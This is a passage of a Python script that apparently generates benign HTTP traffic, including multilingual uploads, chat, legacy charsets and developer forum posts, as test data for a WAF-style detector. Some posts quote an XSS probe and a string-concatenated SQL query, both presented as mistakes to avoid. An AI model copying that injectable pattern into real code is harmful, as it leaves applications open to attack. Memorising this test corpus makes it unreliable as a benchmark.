        b = boundary(r, "curl")
        body = multipart(b, [("file", fn_plain("messages.%s.xlf" % lang), "application/x-xliff+xml", content), ("importEqSuggestions", "false")])
        return dict(method="POST", host="acme.api.crowdin.com", path="/api/v2/projects/%d/translations/%s" % (r.randint(10, 999), lang),
                    body=body, ctype="multipart/form-data; boundary=" + b, ua="curl/8.5.0", extra=[["Authorization", "Bearer " + alnum(r, 40)]])
    if c == 1:
        return dict(method="PUT", host="weblate.acme.io", path="/api/translations/acme/angular/%s/file/" % lang, body=content,
                    ctype="application/x-xliff+xml; charset=utf-8", ua="wlc/1.15", extra=[["Authorization", "Token " + alnum(r, 40)]])
    return dict(method="POST", host="cms.acme.io", path="/api/i18n/import", params=[("format", "xliff"), ("target", lang)], body=content,
                ctype="application/xml", browser=True, lang="en", extra=[["X-CSRF-Token", alnum(r, 43)]])


UPLOAD_FILES = [
    ("履歴書_山田太郎.txt", "ja", "氏名：山田 太郎\n住所：東京都千代田区丸の内1-9-1\n職歴：2019年〜 株式会社サクラ（エンジニア）\n"),
    ("Résumé – Zoë D'Arcy.txt", "fr", "Zoë D'Arcy\n12, rue de l'Église, Paris\nExpérience : 5 ans chez L'Oréal\n"),
    ("отчёт_2026_Q3.csv", "ru", "Регион;Выручка, ₽;Рост\nМосква;12 345 678;+4,2%\nСанкт-Петербург;8 765 432;−1,1%\n"),
    ("تقرير_المبيعات.csv", "ar", "المنطقة,المبيعات\nالرياض,١٢٣٤٥\nجدة,٦٧٨٩\n"),
    ("קורות חיים - שירה.txt", "he", "שירה בן-דוד\nטלפון: 050-1234567\nניסיון: 3 שנים\n"),
    ("계약서(최종).txt", "ko", "계약서\n갑: 주식회사 한빛\n을: 김민준\n계약 기간: 2026.01.01 ~ 2026.12.31\n"),
    ("合同（修订版）.txt", "zh-CN", "甲方：红商城有限公司\n乙方：王伟\n第一条：……\n"),
    ("Ελληνικά_σημειώσεις.md", "el", "# Σημειώσεις\n\n- Αθήνα → Θεσσαλονίκη\n- «Καλημέρα»\n"),
    ("fotoğraf_listesi_İstanbul.txt", "tr", "Ayasofya\nKız Kulesi\nGalata Kulesi\n"),
    ("Łódź–plan.md", "pl", "## Plan wycieczki\n1. Piotrkowska\n2. Manufaktura\n"),
    ("danh sách khách mời.csv", "vi", "Họ tên,Số điện thoại\nNguyễn Văn Anh,0901234567\nĐặng Thị Ngọc Thịnh,0987654321\n"),
    ("subtitles.ja.srt", "ja", "1\n00:00:01,000 --> 00:00:03,500\nこんにちは！\n\n2\n00:00:04,000 --> 00:00:06,000\n＜音楽＞\n"),
    ("Untertitel_Folge_3.de.srt", "de", "1\n00:00:01,000 --> 00:00:02,800\n„Wo warst du?“\n\n2\n00:00:03,000 --> 00:00:05,000\n[Tür knallt]\n"),
    ("📷 Urlaub 2026.txt", "de", "Bilderliste: Strand, Berge, Café\n"),
    ("contacts_O'Brien.vcf", "en", "BEGIN:VCARD\nVERSION:3.0\nN:O'Brien;Seán;;;\nFN:Seán O'Brien\nADR;TYPE=home:;;1 Main St;Dún Laoghaire;;;Ireland\nEND:VCARD\n"),
    ("सूची.txt", "hi", "आटा\nचावल\nदाल\n"),
    ("รายการ.txt", "th", "ข้าว\nน้ำปลา\n"),
]


@benign_gen("multipart_filenames", 20)
def b_uploads(r):
    name, lang, content = r.choice(UPLOAD_FILES)
    ctype = "text/csv" if name.endswith(".csv") else ("text/vcard" if name.endswith(".vcf") else ("text/markdown" if name.endswith(".md") else "text/plain"))
    c = r.randint(0, 2)
    if c == 0:  # browser: raw UTF-8 in filename=
        ua = r.choice(UAS)
        b = boundary(r, ua)
        body = multipart(b, [("folder", r.choice(["/", "/共有", "/Documents", "/Документы"])), ("file", fn_plain(name), ctype, content)])
        return dict(method="POST", host="drive.acme-cloud.com", path="/api/v3/files/upload", body=body, ctype="multipart/form-data; boundary=" + b,
                    ua=ua, browser=True, lang=lang, extra=[["X-CSRF-Token", alnum(r, 43)]])
    if c == 1:  # RFC 5987 with ASCII fallback
        b = boundary(r, "curl")
        body = multipart(b, [("file", fn_5987(name), ctype, content)])
        return dict(method="POST", host="files.acme-cloud.com", path="/v1/uploads", body=body, ctype="multipart/form-data; boundary=" + b, ua="curl/8.5.0",
                    extra=[["Authorization", "Bearer " + alnum(r, 40)], ["Content-Language", lang]])
    b = boundary(r, "python")
    body = multipart(b, [("file", fn_urllib3(name), ctype, content), ("description", name)])
    return dict(method="POST", host="files.acme-cloud.com", path="/v1/uploads", body=body, ctype="multipart/form-data; boundary=" + b, ua="python-requests/2.25.1",
                extra=[["Authorization", "Bearer " + alnum(r, 40)]])


@benign_gen("chat_emoji", 22)
def b_chat(r):
    lang = r.choice(list(CHAT))
    msg = r.choice(CHAT[lang]).format(e="".join(r.sample(EMOJI, r.randint(1, 3))))
    if r.random() < 0.35:
        msg += " " + r.choice(KAOMOJI)
    c = r.randint(0, 2)
    if c == 0:
        return dict(method="POST", host="chat.acme-messenger.com", path="/api/v1/rooms/%s/messages" % alnum(r, 17),
                    body=js({"msg": msg, "tmid": None, "client_msg_id": uuid(r)}), browser=True, lang=lang, extra=[["X-Auth-Token", alnum(r, 43)]])
    if c == 1:
        return dict(method="PUT", host="matrix.acme-messenger.com", path="/_matrix/client/v3/rooms/!%s:acme-messenger.com/send/m.room.message/m%d" % (alnum(r, 18), r.randint(10 ** 12, 10 ** 13)),
                    body=js({"msgtype": "m.text", "body": msg}), ua="Element/1.11.85", extra=[["Authorization", "Bearer syt_" + alnum(r, 40)]])
    return dict(method="POST", host="api.acme-social.com", path="/v2/statuses", body=jsa({"status": msg, "visibility": "public", "language": lang.split("-")[0]}),
                ua=r.choice(["Tusky/25.2", "Ivory/1.13", "Dart/3.5 (dart:io)"]), extra=[["Authorization", "Bearer " + alnum(r, 43)]])


@benign_gen("rtl_text", 16)
def b_rtl(r):
    lang, text = r.choice(RTL_TEXT)
    host = NEWS.get(lang, SHOPS[lang])
    c = r.randint(0, 2)
    if c == 0:
        return dict(method="POST", host=host, path="/api/comments", body=js({"article_id": r.randint(10000, 99999), "text": text, "name": r.choice(["أحمد", "שירה", "Dana"])}),
                    browser=True, lang=lang, extra=[["Content-Language", lang]])
    if c == 1:
        return dict(method="POST", host=SHOPS[lang], path="/contact", body=qf([("name", r.choice(["محمد العلي", "יוסי כהן"])), ("message", text), ("_token", alnum(r, 40))]),
                    ctype="application/x-www-form-urlencoded", browser=True, lang=lang)
    return dict(method="GET", host=SHOPS[lang], path="/search", params=[("q", text)], browser=True, lang=lang)


ACCEPT_LANGS = ["zh-Hant-TW,zh-Hant;q=0.9,zh;q=0.8,en-US;q=0.7,en;q=0.6", "en-US,en;q=0.9,zh-CN;q=0.8,zh;q=0.7,ja;q=0.6", "sr-Latn-RS,sr;q=0.9,en;q=0.8",
                "es-419,es;q=0.9", "de-CH-1996,de;q=0.9,fr-CH;q=0.8", "*", "tlh;q=1.0, en;q=0.5", "zh-Hans-CN", "pt-BR", "fr-CA,fr;q=0.9,en-CA;q=0.8",
                "ar-EG,ar;q=0.9,en-GB;q=0.8,en;q=0.7", "nb-NO,nb;q=0.9,no;q=0.8,nn;q=0.7,en-US;q=0.6,en;q=0.5", "hi-Latn-IN", "yue-Hant-HK,zh-HK;q=0.9",
                "sgn-US", "en-GB-oxendict", "x-pseudo", "ca-ES-valencia,ca;q=0.9", "uz-Cyrl-UZ,uz;q=0.9,ru;q=0.8", "haw-US,en-US;q=0.8"]


@benign_gen("accept_language", 18)
def b_acclang(r):
    al = r.choice(ACCEPT_LANGS)
    lang = al.split(",")[0].split(";")[0]
    extra = [["Accept-Language", al], ["Accept-Encoding", "gzip, deflate, br"]]
    c = r.randint(0, 3)
    if c == 0:
        extra.append(["Cookie", "NEXT_LOCALE=%s; i18next=%s" % (lang, lang)])
        return dict(method="GET", host="www.acme-global.com", path="/", browser=True, no_lang=True, extra=extra)
    if c == 1:
        extra.append(["Accept-Charset", r.choice(["Shift_JIS,utf-8;q=0.7,*;q=0.3", "utf-8, iso-8859-1;q=0.5", "windows-1251,utf-8;q=0.7,*;q=0.7"])])
        return dict(method="GET", host="www.acme-global.com", path="/api/i18n/detect", browser=True, no_lang=True, extra=extra, accept="application/json")
    if c == 2:
        return dict(method="PUT", host="api.acme-global.com", path="/v1/users/me/preferences", body=js({"locale": lang, "timezone": r.choice(["Asia/Tokyo", "Europe/Kyiv", "America/Sao_Paulo", "Asia/Kolkata"]), "hour12": False}),
                    browser=True, no_lang=True, extra=extra + [["Content-Language", lang]])
    return dict(method="GET", host="www.acme-global.com", path="/%s/" % lang.lower(), params=[("hl", lang), ("gl", lang.split("-")[-1] if "-" in lang else "US")], browser=True, no_lang=True, extra=extra)


@benign_gen("fullwidth_text", 18)
def b_fullwidth(r):
    lang, text = r.choice(FULLWIDTH_TITLES)
    c = r.randint(0, 3)
    if c == 0:
        return dict(method="GET", host=SHOPS[lang], path="/search", params=[(SEARCH_PARAM.get(lang, "q"), text)], browser=True, lang=lang)
    if c == 1:
        return dict(method="POST", host="seller." + SHOPS[lang].split(".", 1)[1], path="/api/items", body=js({"title": text, "price": r.randint(100, 20000), "stock": r.randint(0, 99), "status": "draft"}),
                    browser=True, lang=lang, extra=[["X-CSRF-Token", alnum(r, 43)]])
    if c == 2:
        return dict(method="POST", host=SHOPS[lang], path="/api/v2/products/%d/reviews" % r.randint(10000, 99999), body=js({"rating": 4, "body": text}), browser=True, lang=lang)
    return dict(method="POST", host=FORUMS[lang], path="/posting.php", params=[("mode", "post"), ("f", "3")],
                body=qf([("subject", text[:10]), ("message", text), ("post", "投稿")]), ctype="application/x-www-form-urlencoded", browser=True, lang=lang)


LEGACY = [
    ("shift_jis", "Shift_JIS", "ja", "shop.sakura-ec.jp", [("kw", "表示ソフト"), ("cat", "ソフトウェア")]),
    ("shift_jis", "Shift_JIS", "ja", "bbs.sakura-ec.jp", [("name", "名無しさん"), ("MESSAGE", "＞＞１２ 表示されない件、ソフト更新で直りました"), ("bbs", "pc")]),
    ("big5", "Big5", "zh-TW", "www.lianhe-shop.com.tw", [("q", "許功蓋 字型")]),
    ("gbk", "GBK", "zh-CN", "bbs.hongmall.cn", [("message", "请问这个软件怎么卸载？"), ("subject", "求助")]),
    ("euc_kr", "EUC-KR", "ko", "www.hanbit-mall.co.kr", [("query", "겨울 패딩")]),
    ("cp1251", "windows-1251", "ru", "forum.berezka.ru", [("message", "Спасибо, всё работает!"), ("subject", "Re: шрифты")]),
    ("iso-8859-1", "ISO-8859-1", "de", "shop.kaufhaus-nord.de", [("suche", "Größe 42 Schuhe")]),
    ("cp1252", "windows-1252", "fr", "boutique.lamaison.fr", [("q", "crème brûlée – l'été")]),
    ("euc_jp", "EUC-JP", "ja", "shop.sakura-ec.jp", [("kw", "北海道 旅行")]),
]
RAW_TEXT = [
    ("cp1251", "windows-1251", "ru", "text/plain", "Добрый день! Прошу выставить счёт на ООО «Берёзка».\n"),
    ("iso-8859-1", "ISO-8859-1", "de", "text/csv", "Name;Straße;Ort\nMüller;Hauptstraße 5;München\nJürgen;Königsallee 1;Düsseldorf\n"),
    ("euc_kr", "EUC-KR", "ko", "text/xml", '<?xml version="1.0" encoding="EUC-KR"?>\n<order><name>김민준</name><addr>서울특별시 강남구</addr></order>\n'),
    ("shift_jis", "Shift_JIS", "ja", "text/csv", "商品コード,商品名,価格\nA001,表示用ソフト,1980\nA002,ソーラー時計,4980\n"),
    ("big5", "Big5", "zh-TW", "text/plain", "許先生您好，功課已完成，蓋章後寄回。\n"),
    ("gb18030", "GB18030", "zh-CN", "text/csv", "姓名,城市\n王伟,北京\n李娜,上海\n"),
    ("cp1252", "windows-1252", "fr", "text/plain", "Chère Zoë, l’été à Paris – c’était « magnifique » !\n"),
]


@benign_gen("legacy_charset", 16)
def b_legacy(r):
    # ASCII on the wire (percent-encoded legacy bytes): ordinary dicts; raw bodies: raw_b64 (see benign())
    if r.random() < 0.55:
        codec, cs, lang, host, fields = r.choice(LEGACY)
        body = "&".join("%s=%s" % (k, quote_plus(v.encode(codec))) for k, v in fields)
        if r.random() < 0.5:
            return dict(method="GET", host=host, path="/search", raw_query=body + "&ie=" + cs, browser=True, lang=lang)
        return dict(method="POST", host=host, path="/post", body=body, ctype="application/x-www-form-urlencoded; charset=" + cs, browser=True, lang=lang)
    codec, cs, lang, ct, text = r.choice(RAW_TEXT)
    return dict(raw=True, method="POST", host="legacy-edi.acme-global.com", uri="/inbound/%s?src=%s" % (r.choice(["orders", "feedback", "contacts"]), lang),
                headers=[["Content-Type", "%s; charset=%s" % (ct, cs)], ["Accept", "*/*"]], body_bytes=text.encode(codec), lang=lang,
                ua=r.choice(["Java/1.8.0_371", "Apache-HttpClient/4.5.14 (Java/11.0.21)", "curl/7.61.1", "Microsoft Office Excel 2016"]))


TRANSLATE_TEXTS = [("ja", "EN", "明日は雨が降るでしょう。"), ("de", "JA", "Könnten Sie mir bitte die Rechnung schicken?"), ("ru", "EN", "Где находится ближайшая станция метро?"),
                   ("fr", "EN", "<p>Bienvenue chez <b>La Maison</b> !</p>"), ("zh-CN", "EN", "请问 union 和 union all 有什么区别？"),
                   ("ar", "EN", "أين يمكنني شراء تذكرة؟"), ("ko", "EN", "이 스크립트(script)를 번역해 주세요"), ("en", "ES", "Don't forget: O'Brien's order ships Monday."),
                   ("he", "EN", "אני רוצה להזמין שולחן לשניים"), ("th", "EN", "ห้องน้ำอยู่ที่ไหนครับ"), ("vi", "EN", "Bạn có thể nói chậm hơn không?"), ("tr", "DE", "Yarın görüşürüz!"),
                   ("pt", "EN", "Onde fica a estação de trem?"), ("hi", "EN", "मुझे हिंदी नहीं आती")]


@benign_gen("translate_api", 14)
def b_translate(r):
    src, tgt, text = r.choice(TRANSLATE_TEXTS)
    c = r.randint(0, 2)
    if c == 0:
        form = [("text", text), ("target_lang", tgt)] + ([("tag_handling", "html")] if "<" in text else [])
        return dict(method="POST", host="api-free.deepl.com", path="/v2/translate", body=q(form), ctype="application/x-www-form-urlencoded",
                    ua="deepl-python/1.19.1 (Python/3.12.7; CPython)", extra=[["Authorization", "DeepL-Auth-Key %s-%s:fx" % (uuid(r), hexid(r, 4))]])
    if c == 1:
        return dict(method="POST", host="translation.googleapis.com", path="/language/translate/v2", params=[("key", "AIza" + alnum(r, 35))],
                    body=js({"q": [text], "target": tgt.lower(), "format": "html" if "<" in text else "text"}), ua="google-api-nodejs-client/9.15.0")
    return dict(method="POST", host="translate.acme.io", path="/translate", body=js({"q": text, "source": "auto", "target": tgt.lower(), "format": "text"}), browser=True, lang=src)


GEO = ["Rue de l'Église 12, Paris", "Straße des 17. Juni 135, Berlin", "東京都千代田区丸の内1-9-1", "서울특별시 강남구 테헤란로 152", "北京市朝阳区建国路88号",
       "Av. Paulista, 1578 – São Paulo", "ul. Piotrkowska 104, Łódź", "Avenue Charles de Gaulle, N'Djamena", "Reggio nell'Emilia", "Dún Laoghaire pier",
       "Λεωφόρος Νίκης 12, Θεσσαλονίκη", "Halaskargazi Cd. No:38, Şişli/İstanbul", "12 Đường Nguyễn Huệ, Quận 1", "шоссе Энтузиастов, 12, Москва",
       "شارع الملك فهد، الرياض", "רחוב הרצל 15, תל אביב", "Kaʻahumanu Ave, Kahului, Hawaiʻi"]


@benign_gen("geocode", 14)
def b_geo(r):
    addr = r.choice(GEO)
    lang = r.choice(LANGS)
    if r.random() < 0.5:
        return dict(method="GET", host="nominatim.acme-maps.com", path="/search", params=[("q", addr), ("format", "jsonv2"), ("accept-language", lang), ("limit", "5")],
                    ua="AcmeDelivery/3.2 (contact: ops@acme-global.com)")
    return dict(method="GET", host="maps.acme-maps.com", path="/maps/api/geocode/json", params=[("address", addr), ("language", lang), ("region", lang.split("-")[-1].lower()), ("key", "AIza" + alnum(r, 35))],
                browser=True, lang=lang, accept="application/json")


BIOS = ["写代码的，喜欢猫 🐱", "東京在住／エンジニア／ラーメン好き🍜", "서울 | 개발자 | ☕ 중독", "Разработчик из Казани. Люблю «Мастера и Маргариту».",
        "مهندس برمجيات ‏| الرياض", "מפתח תוכנה • תל אביב", "Dev @ Acme · she/her · 🏳️‍🌈", "d'Artagnan fan club président 🤺", "Hawaiʻi → Berlin",
        "Ngũgĩ wa Thiong'o fan; Gĩkũyũ learner", "Zürich 🇨🇭 | Grüezi!", "Kraków ↔ Łódź", "Türkçe/English/Deutsch", "(｀・ω・´)ゞ よろしく！", "Ελληνικά & Python 🐍"]


@benign_gen("profiles", 16)
def b_profiles(r):
    f, l, cc = person(r)
    lang = r.choice(LANGS)
    body = {"display_name": "%s %s" % (f, l), "given_name": f, "family_name": l, "bio": r.choice(BIOS), "locale": lang,
            "timezone": r.choice(["Asia/Tokyo", "Asia/Seoul", "Europe/Warsaw", "Africa/Ndjamena", "Pacific/Honolulu", "Asia/Ho_Chi_Minh", "Asia/Jerusalem"])}
    if r.random() < 0.5:
        return dict(method="PATCH", host="api.acme-social.com", path="/v1/users/me", body=js(body), browser=True, lang=lang, extra=[["Authorization", "Bearer " + alnum(r, 43)]])
    form = [("user[name]", body["display_name"]), ("user[bio]", body["bio"]), ("user[locale]", lang), ("_method", "patch"), ("authenticity_token", alnum(r, 86) + "==")]
    return dict(method="POST", host="www.acme-social.com", path="/settings/profile", body=qf(form), ctype="application/x-www-form-urlencoded", browser=True, lang=lang)


@benign_gen("json_escaped", 12)
def b_json_esc(r):
    lang = r.choice(list(REVIEWS))
    text = r.choice(REVIEWS[lang])
    c = r.randint(0, 2)
    if c == 0:
        return dict(method="POST", host="api.acme-global.com", path="/v1/feedback", body=jsa({"text": text, "lang": lang, "source": "ios"}), ua="python-requests/2.32.3")
    if c == 1:  # Go service relaying rich text: \u003c ... \u003e
        html = "<p>%s</p><p><strong>%s</strong> &amp; more</p>" % (text, r.choice(["注意", "Hinweis", "Примечание", "ملاحظة"]))
        return dict(method="POST", host="cms.acme-global.com", path="/api/v1/blocks", body=jsgo({"type": "richtext", "html": html, "locale": lang}), ua="Go-http-client/1.1")
    f, l, _ = person(r)
    return dict(method="PUT", host="crm.acme-global.com", path="/api/contacts/%d" % r.randint(1, 99999), body=jsa({"first_name": f, "last_name": l, "city": r.choice(CITIES)}), ua="Java/17.0.9")


@benign_gen("i18n_static", 12)
def b_static(r):
    lang = r.choice(LANGS)
    path = r.choice(["/locales/%s/translation.json" % lang, "/static/i18n/messages_%s.properties" % lang.replace("-", "_"), "/fonts/NotoSansJP-Regular.woff2",
                     "/assets/i18n/%s.json" % lang, "/locale/%s/LC_MESSAGES/django.mo" % lang.replace("-", "_"), "/fonts/NotoNaskhArabic-Regular.woff2",
                     "/_next/static/chunks/pages/%s-%s.js" % (lang, hexid(r, 16))])
    if r.random() < 0.3:
        return dict(method="GET", host="www.acme-global.com", path="/api/i18n/bundle", params=[("lng", lang), ("ns", "common,checkout")], browser=True, lang=lang, accept="application/json")
    return dict(method="GET", host="static.acme-global.com", path=path, browser=True, lang=lang, accept="*/*", extra=[["Referer", "https://www.acme-global.com/%s/" % lang.lower()]])


SMS = [("ja", "【Acme】認証コード：{code}（有効期限10分）"), ("zh-CN", "【红商城】您的验证码是{code}，5分钟内有效。如非本人操作，请忽略。"),
       ("ko", "[한빛몰] 인증번호 [{code}]를 입력해주세요."), ("ru", "Код подтверждения: {code}. Никому не сообщайте его!"),
       ("ar", "رمز التحقق الخاص بك هو {code}"), ("he", "קוד האימות שלך: {code}"), ("de", "Ihr Bestätigungscode lautet {code}. Gültig für 10 Min."),
       ("tr", "Doğrulama kodunuz: {code}"), ("th", "รหัส OTP ของคุณคือ {code}"), ("vi", "Mã xác thực của bạn là {code}"), ("hi", "आपका OTP {code} है")]


@benign_gen("notifications", 12)
def b_notify(r):
    lang, tmpl = r.choice(SMS)
    text = tmpl.format(code=r.randint(100000, 999999))
    if r.random() < 0.5:
        return dict(method="POST", host="api.acme-sms.com", path="/2010-04-01/Accounts/AC%s/Messages.json" % hexid(r, 32),
                    body=q([("To", "+%d" % r.randint(10 ** 10, 10 ** 12)), ("From", "Acme"), ("Body", text)]), ctype="application/x-www-form-urlencoded",
                    ua="twilio-python/9.3.7 (Linux x86_64) Python/3.12.7", extra=[["Authorization", "Basic " + base64.b64encode(("AC%s:%s" % (hexid(r, 32), hexid(r, 32))).encode()).decode()]])
    return dict(method="POST", host="fcm.acme-push.com", path="/v1/projects/acme/messages:send",
                body=js({"message": {"token": alnum(r, 152), "notification": {"title": text[:12], "body": text},
                                     "apns": {"payload": {"aps": {"alert": {"title-loc-key": "OTP_TITLE", "loc-args": [lang]}}}}}}),
                ua="Go-http-client/2.0", extra=[["Authorization", "Bearer ya29." + alnum(r, 100)]])


def benign():
    out = []
    for name, n, fn in BENIGN:
        r = random.Random("benign-" + name)
        for i in range(1, n + 1):
            a = fn(r)
            rid = "%s/benign/%s-%03d" % (SET, name, i)
            out.append(emit(rid, "benign", "pass", a, r))
    out += dev_content()
    return out


def emit(rid, cat, expect, a, r):
    if a.get("raw"):
        return mk_raw(rid, cat, expect, a["method"], a["host"], a["uri"], a.get("headers", []), a.get("body_bytes", b""), lang=a.get("lang"), ua=a.get("ua"), rng=r,
                      no_cl=a.get("no_cl", False))
    return mk(rid, cat, expect, a["method"], a["host"], a["path"], params=a.get("params"), raw_query=a.get("raw_query"),
              body=a.get("body"), ctype=a.get("ctype"), ua=a.get("ua"), extra=a.get("extra"), rng=r, browser=a.get("browser", False),
              lang=a.get("lang", "en"), accept=a.get("accept"), raw_path=a.get("raw_path", False), no_lang=a.get("no_lang", False),
              framing=a.get("framing"), raw_host=a.get("raw_host", False))


# ---------------------------------------------------------------------------
# dev-content
# ---------------------------------------------------------------------------

DEV_POSTS = [
    # (lang, site, title, body)
    ("ja", "qiita", "UNIONとUNION ALLの違い",
     "重複を除外したい場合は `UNION`、そのまま結合したい場合は `UNION ALL` を使います。\n\n```sql\nSELECT id, name FROM users WHERE deleted_at IS NULL\nUNION\nSELECT id, name FROM admins;\n```\n\n`UNION ALL` の方がソートが不要なので速いです。"),
    ("ja", "qiita", "シェルで古いログを一括削除する",
     "cronで毎日実行しています。\n\n```bash\nfind /var/log/myapp -name '*.log' -mtime +30 -exec rm -f {} \\;\n# 念のため件数を確認\nls /var/log/myapp | wc -l\n```"),
    ("ja", "zenn", "Reactでscriptタグを動的に読み込む",
     "```jsx\nuseEffect(() => {\n  const s = document.createElement('script');\n  s.src = 'https://www.googletagmanager.com/gtag/js?id=G-XXXX';\n  s.async = true;\n  document.head.appendChild(s);\n}, []);\n```\n`<script>` を JSX に直接書いても実行されないので注意。"),
    ("ja", "qiita", "unicodedata.normalize('NFKC') で全角を半角に",
     "```python\nimport unicodedata\ns = '＜ＡＢＣ＞１２３'\nprint(unicodedata.normalize('NFKC', s))  # <ABC>123\n```\n全角の＜＞も半角の<>になるので、エスケープはNFKCの後で！"),
    ("zh-CN", "juejin", "MySQL 防止 SQL 注入的正确姿势",
     "千万不要拼接字符串：\n```php\n// 错误示范\n$sql = \"SELECT * FROM users WHERE name = '\" . $_GET['name'] . \"'\";\n// 正确做法：预处理语句\n$stmt = $pdo->prepare('SELECT * FROM users WHERE name = ?');\n$stmt->execute([$name]);\n```"),
    ("zh-CN", "juejin", "Linux 常用命令速查",
     "```bash\n# 查看端口占用\nnetstat -tunlp | grep 8080\n# 查找大文件\nfind / -type f -size +500M 2>/dev/null\n# 批量改名\nfor f in *.JPG; do mv \"$f\" \"${f%.JPG}.jpg\"; done\n```"),
    ("zh-CN", "segmentfault", "innerHTML 导致的 XSS 问题",
     "不要直接把用户输入拼接到 innerHTML，例如 `el.innerHTML = '<img src=' + url + '>'`，改用 `textContent` 或者 DOMPurify：\n```js\nel.innerHTML = DOMPurify.sanitize(html);\n```"),
    ("zh-CN", "csdn", "每个部门工资最高的员工（窗口函数）",
     "```sql\n-- 查询每个部门工资最高的员工\nSELECT dept, name, salary\nFROM (\n  SELECT *, RANK() OVER (PARTITION BY dept ORDER BY salary DESC) AS rk\n  FROM employees\n) t\nWHERE rk = 1;\n```"),
    ("ru", "habr", "Как найти файлы больше 100 МБ",
     "Вот однострочник:\n```bash\nfind / -type f -size +100M -exec ls -lh {} \\; 2>/dev/null | awk '{ print $9 \": \" $5 }'\n```\nРаботает и на macOS."),
    ("ru", "habr", "Оконные функции в PostgreSQL",
     "```sql\nSELECT name, salary,\n       AVG(salary) OVER (PARTITION BY dept) AS avg_dept\nFROM employees\nWHERE hired_at >= '2020-01-01'\nORDER BY dept, salary DESC;\n```\nСравните с `GROUP BY` — там строки «схлопываются»."),
    ("uk", "dou", "Як зробити бекап бази в cron",
     "```bash\n0 3 * * * pg_dump -U postgres shop | gzip > /backups/shop-$(date +\\%F).sql.gz\n```\nНе забудьте `\\%` у crontab!"),
    ("ko", "velog", "리액트에서 dangerouslySetInnerHTML 주의",
     "```jsx\n<div dangerouslySetInnerHTML={{ __html: marked(post.body) }} />\n```\n마크다운 결과는 반드시 sanitize 하세요. `<script>alert(1)</script>` 같은 입력이 그대로 실행될 수 있습니다."),
    ("ko", "velog", "MySQL 서브쿼리 vs JOIN",
     "```sql\nSELECT u.name, (SELECT COUNT(*) FROM orders o WHERE o.user_id = u.id) AS cnt\nFROM users u;\n-- JOIN 버전\nSELECT u.name, COUNT(o.id) FROM users u LEFT JOIN orders o ON o.user_id = u.id GROUP BY u.name;\n```"),
    ("pt", "so-pt", "Como remover registros duplicados no MySQL?",
     "Você pode usar:\n```sql\nDELETE FROM clientes\nWHERE id NOT IN (SELECT * FROM (SELECT MIN(id) FROM clientes GROUP BY cpf) AS t);\n```\nO subselect extra evita o erro 1093."),
    ("pt", "so-pt", "Script bash para renomear arquivos com acentos",
     "```bash\nfor f in *; do\n  novo=$(echo \"$f\" | iconv -f utf-8 -t ascii//TRANSLIT)\n  mv -- \"$f\" \"$novo\"\ndone\n```"),
    ("es", "so-es", "¿Cómo hacer un JOIN entre tres tablas?",
     "```sql\nSELECT p.nombre, c.nombre AS categoría, m.nombre AS marca\nFROM productos p\nINNER JOIN categorias c ON p.categoria_id = c.id\nINNER JOIN marcas m ON p.marca_id = m.id\nWHERE p.precio > 100;\n```"),
    ("es", "so-es", "Error con la ñ en PHP",
     "Asegúrate de usar utf8mb4:\n```php\n$pdo = new PDO('mysql:host=localhost;dbname=tienda;charset=utf8mb4', $user, $pass);\necho htmlspecialchars($nombre, ENT_QUOTES, 'UTF-8');\n```"),
    ("de", "forum-de", "Shell-Skript: Umlaute in Dateinamen konvertieren",
     "```bash\nfor f in *.txt; do iconv -f latin1 -t utf-8 \"$f\" > \"utf8/$f\"; done\n```\nDanach `file -i utf8/*` prüfen."),
    ("fr", "forum-fr", "Requête SQL pour compter les commandes par mois",
     "```sql\nSELECT DATE_FORMAT(created_at, '%Y-%m') AS mois, COUNT(*) AS nb\nFROM commandes\nGROUP BY mois\nORDER BY mois;\n```\nN'oubliez pas l'index sur created_at."),
    ("vi", "viblo", "Dùng tail và grep để xem log",
     "```bash\ntail -f /var/log/nginx/error.log | grep --line-buffered 'upstream'\n```\nNhấn Ctrl+C để thoát."),
    ("tr", "forum-tr", "Türkçe locale ve toUpperCase sorunu",
     "Türkçe locale'de `'i'.toUpperCase()` 'İ' döndürür:\n```java\n\"title\".toUpperCase(new Locale(\"tr\")); // \"TİTLE\"\n// SQL'de: WHERE UPPER(name) = 'TITLE' dikkat!\n```"),
    ("ja", "qiita", "PHPで文字化けしない CSV 出力",
     "```php\n$csv = mb_convert_encoding($csv, 'SJIS-win', 'UTF-8');\nheader('Content-Type: text/csv; charset=Shift_JIS');\nheader('Content-Disposition: attachment; filename*=UTF-8\\'\\'' . rawurlencode('売上.csv'));\necho $csv;\n```"),
    ("zh-CN", "juejin", "Nginx 配置反向代理",
     "```nginx\nlocation /api/ {\n    proxy_pass http://127.0.0.1:8080/;\n    proxy_set_header Host $host;\n    proxy_set_header X-Real-IP $remote_addr;\n}\n```"),
    ("ru", "habr", "Bash: безопасное удаление",
     "```bash\nset -euo pipefail\nrm -rf -- \"${BUILD_DIR:?}/\"*\n```\nБез `:?` при пустой переменной можно снести `/`."),
    ("ja", "zenn", "Jinja2のテンプレート入門",
     "```jinja\n{% for item in items %}\n  <li>{{ item.name | e }}（{{ item.price }}円）</li>\n{% endfor %}\n```\n`| e` でエスケープされます。"),
]
SQL_TUTORIAL = [
    ("zh-CN", "-- 第3课：UNION 合并结果集\nSELECT city FROM customers\nUNION\nSELECT city FROM suppliers\nORDER BY city;"),
    ("ja", "-- 第5回：副問い合わせ\nSELECT 名前, 価格 FROM 商品 WHERE 価格 > (SELECT AVG(価格) FROM 商品);"),
    ("ko", "-- 3장: 집계 함수\nSELECT 부서, COUNT(*) AS 인원, MAX(급여) FROM 직원 GROUP BY 부서 HAVING COUNT(*) > 5;"),
    ("ru", "-- Урок 4: UPDATE с условием\nUPDATE товары SET цена = цена * 1.1 WHERE категория = 'Книги';"),
    ("es", "-- Lección 2: INSERT\nINSERT INTO clientes (nombre, ciudad) VALUES ('José Núñez', 'A Coruña'), ('María O''Brien', 'Dublín');"),
    ("pt", "-- Aula 6: LEFT JOIN\nSELECT a.nome, COUNT(p.id) FROM alunos a LEFT JOIN provas p ON p.aluno_id = a.id GROUP BY a.nome;"),
    ("de", "-- Lektion 7: Transaktionen\nBEGIN;\nUPDATE konten SET saldo = saldo - 100 WHERE id = 1;\nUPDATE konten SET saldo = saldo + 100 WHERE id = 2;\nCOMMIT;"),
    ("fr", "-- Leçon 3 : suppression\nDELETE FROM paniers WHERE mis_a_jour < NOW() - INTERVAL 30 DAY;"),
    ("ar", "-- الدرس ١: استعلام بسيط\nSELECT الاسم, المدينة FROM العملاء WHERE المدينة = 'الرياض';"),
